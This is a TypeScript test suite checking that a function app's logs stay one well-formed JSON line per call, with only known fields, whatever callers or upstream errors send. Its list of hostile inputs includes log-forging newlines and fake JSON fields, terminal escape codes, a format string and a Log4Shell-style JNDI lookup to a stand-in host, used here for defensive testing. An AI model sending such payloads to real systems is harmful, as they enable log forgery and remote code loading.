import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { catalogue } from "../../functions/catalogue.ts";
import { logLine } from "../../functions/log.ts";
import { hostilePieces, parametersOf, seed } from "../support/catalogue.ts";
import { settingsOf, startFunctionApp } from "../support/function-app.ts";
import { startRelay } from "../support/relay.ts";

/** What ends a line, drives a terminal, hides text or fills a disk. */
const hostile = [
  "\n",
  "\r\n",
  '\n{"operation":"ListApps","status":200}',
  '"},{"forged":true,"x":"',
  "\x1b[2J\x1b[31m",
  "\x9b31m",
  "\x07",
  "\x7f",
  "\u0085",
  "\u2028",
  "\u2029",
  "\u202e",
  "\ufeff",
  "\0",
  "\ud800",
  `\${jndi:ldap://evil.test/x}`,
  "%n%s",
  "x".repeat(1_000_000),
  ...hostilePieces,
];

/** Characters at which some viewer breaks a line, or which a terminal takes for orders. */
const unsafe = /[\x00-\x1f\x7f-\x9f\u2028\u2029\ufeff]/;

function assertRecord(line: string, known?: ReadonlySet<string>): void {
  assert.ok(!unsafe.test(line), `a line with ${JSON.stringify(unsafe.exec(line)?.[0])}`);
  assert.ok(line.length < 4_000, `a line of ${line.length} characters`);
  const record: unknown = JSON.parse(line);
  assert.ok(typeof record === "object" && record !== null);
  if (known)
    assert.deepEqual(
      Object.keys(record).filter((name) => !known.has(name)),
      [],
    );
}

describe("log injection", () => {
  const names = new Set(["operation", "correlationId", "status", "code", "outcome", "fault", "ms"]);

  it("writes one record a call, on one line, of our own fields, whatever a caller sends", async () => {
    await using relay = await startRelay({ unlimited: true });
    let calls = 0;
    for (const operation of catalogue) {
      for (const { name, place } of parametersOf(operation)) {
        for (const text of hostile) {
          const before = relay.log.length;
          const inPath = place === "path" ? { params: { [name]: text } } : {};
          const inQuery = place === "query" ? { query: [[name, text]] as const } : {};
          const input = operation.kind === "typed" && place === "body" ? { input: { [name]: text } } : {};
          // Bodies of a megabyte take their time, and one field is as good as another.
          if (text.length > 100_000 && calls % 23 !== 0) continue;
          calls += 1;
          await relay.call(operation.id, {
            ...inPath,
            ...inQuery,
            ...input,
            headers: { traceparent: text.replace(/[^\x20-\x7e]/g, "").slice(0, 200), "user-agent": "x" },
          });
          assert.equal(relay.log.length, before + 1, `${operation.id} ${name}`);
          const line = relay.log.at(-1) ?? "";
          assertRecord(line, names);
          assert.ok(!line.includes("evil"), line);
        }
      }
    }
    assert.ok(calls > 1_000);
  });

  it("keeps what an upstream says out of the log", async () => {
    await using relay = await startRelay({ unlimited: true });
    for (const text of hostile) {
      relay.simulator.reset();
      const body = { errors: [{ code: text, detail: text, source: { pointer: text } }] };
      relay.simulator.faults.add({ fault: { kind: "status", status: 409, body } });
      const { status } = await relay.call("GetApp", { input: { appId: "1480000001" } });
      assert.ok(status >= 400);
      assertRecord(relay.log.at(-1) ?? "", names);
    }
  });

  it("has whole lines at the host too, whatever reaches it", async () => {
    await using relay = await startRelay({ unlimited: true });
    await using app = await startFunctionApp(settingsOf(relay));
    for (const text of hostile.filter((text) => text.length < 4_000)) {
      const encoded = encodeURIComponent(text.toWellFormed());
      const targets = [
        `/app-store-connect/apps?name=${encoded}`,
        `/app-store-connect/apps/${encoded}`,
        `/relay/adjust/${encoded}`,
        `/${encoded}`,
      ];
      for (const target of targets) await (await app.fetch(target)).arrayBuffer();
    }
    assert.ok(app.lines.length > 200);
    for (const line of app.lines) {
      assertRecord(line);
      assert.ok(!line.includes("evil"), line);
    }
  });

  it("holds for every value of every field", (t) => {
    t.diagnostic(`seed ${seed}`);
    const text = fc.oneof(fc.constantFrom(...hostile), fc.string({ unit: "binary", maxLength: 2_000 }));
    const property = fc.property(fc.dictionary(fc.constantFrom(...names), text), (fields) =>
      assertRecord(logLine(fields)),
    );
    fc.assert(property, { seed, numRuns: 2_000, includeErrorInReport: true });
  });
});
